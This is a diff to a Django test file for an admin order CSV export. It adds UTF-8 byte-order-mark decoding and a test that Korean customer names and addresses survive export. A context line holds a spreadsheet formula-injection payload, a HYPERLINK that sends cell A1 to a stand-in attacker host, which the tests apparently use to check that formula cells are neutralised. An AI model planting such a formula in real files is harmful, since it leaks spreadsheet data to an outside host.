@@ -23,7 +23,7 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 def exported_rows(client, **filters) -> list[dict]:
     response = client.get(reverse("admin:orders_order_export"), filters)
     assert response.status_code == 200
-    text = b"".join(response.streaming_content).decode()
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
     return list(csv.DictReader(io.StringIO(text)))
 
 
@@ -88,3 +88,26 @@ def test_export_neutralises_formula_cells_and_keeps_money_numeric(as_role):
 )
 def test_spreadsheet_safe_quotes_only_text_that_starts_a_formula(value, written):
     assert spreadsheet_safe(value) == written
+
+
+def test_export_starts_with_a_byte_order_mark_and_keeps_hangul(as_role):
+    product = ProductFactory(price=12000)
+    order_services.create_order(
+        items=[{"product": product.pk, "quantity": 1, "unitPrice": 12000}],
+        customer_snapshot={"name": "김민지", "email": "minji@example.com", "phone": ""},
+        shipping_address={
+            "recipientName": "김민지",
+            "phone": "010-1234-5678",
+            "postalCode": "04524",
+            "address1": "서울특별시 중구 세종대로 12",
+            "address2": "3층",
+        },
+        payment_id="pay_hangul_1",
+    )
+    response = as_role("manager").get(reverse("admin:orders_order_export"))
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8's BOM: Excel then reads the file as UTF-8
+    assert raw.count(b"\xef\xbb\xbf") == 1
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0]["Customer"] == "김민지"
+    assert rows[0]["Address"] == "서울특별시 중구 세종대로 12"
